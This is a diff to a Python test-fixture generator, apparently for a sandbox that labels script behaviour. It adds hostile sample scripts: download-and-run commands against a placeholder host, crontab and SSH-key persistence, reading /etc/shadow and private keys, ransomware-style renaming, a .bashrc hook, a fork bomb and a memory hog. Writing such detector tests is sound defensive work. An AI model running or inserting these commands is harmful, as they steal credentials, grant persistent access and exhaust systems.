@@ -141,9 +141,55 @@ def sample(name: str, bits: int = 32, export: str = "") -> bytes:
     return program(steps, bits=bits, export=export)
 
 
+#: Scripts by name and extension, with the features that must be seen and a word of why they end.
+SCRIPTS: dict[str, tuple[str, set[str], str]] = {
+    "fetch.sh": (
+        "#!/bin/sh\ncurl -s http://files.example.com/a -o /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a\n",
+        {"behavior.download_and_run", "behavior.contacts"},
+        "",
+    ),
+    "stay.sh": (
+        "#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/.a') | crontab -\nmkdir ~/.ssh; echo ssh-rsa A >> ~/.ssh/authorized_keys\n",
+        {"behavior.scheduled_task", "behavior.ssh_key_added"},
+        "",
+    ),
+    "secrets.sh": ("#!/bin/sh\ncat /etc/shadow ~/.ssh/id_rsa\nrm -f $0\n", {"behavior.credential_files", "behavior.self_delete"}, ""),
+    "rename.sh": (
+        "#!/bin/sh\nfor n in 1 2 3 4 5 6 7 8 9 10 11; do : > $n.doc; mv $n.doc $n.doc.locked; done\n",
+        {"behavior.mass_rename"},
+        "",
+    ),
+    "profile.py": (
+        "#!/usr/bin/env python3\nimport os, time\ntime.sleep(3600)\n"
+        "with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n    file.write('/tmp/.a &')\n",
+        {"behavior.startup_file"},
+        "",
+    ),
+    "call_home.py": (
+        "import socket\nsocket.create_connection(('203.0.113.5', 8443), 2)\n",
+        {"behavior.contacts"},
+        "found no network",
+    ),
+    "fetch.pl": (
+        "#!/usr/bin/perl\nuse strict;\nsystem('wget', '-q', '-O', '/tmp/b', 'http://files.example.com/b');\nsystem('/bin/sh', '/tmp/b');\n",
+        {"behavior.download_and_run"},
+        "",
+    ),
+    "honest.sh": ("#!/bin/sh\nset -e\nfor file in *.txt; do wc -l $file > /tmp/count; done\n", set(), ""),
+    "bomb.sh": ("#!/bin/sh\nbomb() { bomb | bomb & }\nbomb\nwait\n", set(), "processes"),
+    "endless.sh": ("#!/bin/sh\nwhile :; do :; done\n", set(), "out of time"),
+    "greedy.py": ("#!/usr/bin/env python3\nheld = []\nwhile True:\n    held.append(bytes(1 << 24))\n", set(), ""),
+}  # fmt: skip
+
+
 if __name__ == "__main__":
-    folder = Path(__file__).parent / "golden" / "emulate"
-    folder.mkdir(exist_ok=True)
-    (folder / "credentials.in").write_bytes(sample("stored credentials"))
-    (folder / "near_miss.in").write_bytes(sample("writes a report", 64))
-    (folder / "unknown_call.in").write_bytes(HOSTILE["unknown call"][0])
+    golden = Path(__file__).parent / "golden"
+    for name, data in {
+        "emulate/credentials": sample("stored credentials"),
+        "emulate/near_miss": sample("writes a report", 64),
+        "emulate/unknown_call": HOSTILE["unknown call"][0],
+        "run_script/secrets": SCRIPTS["secrets.sh"][0].encode(),
+        "run_script/honest": SCRIPTS["honest.sh"][0].encode(),
+    }.items():
+        (golden / name).parent.mkdir(exist_ok=True)
+        (golden / f"{name}.in").write_bytes(data)
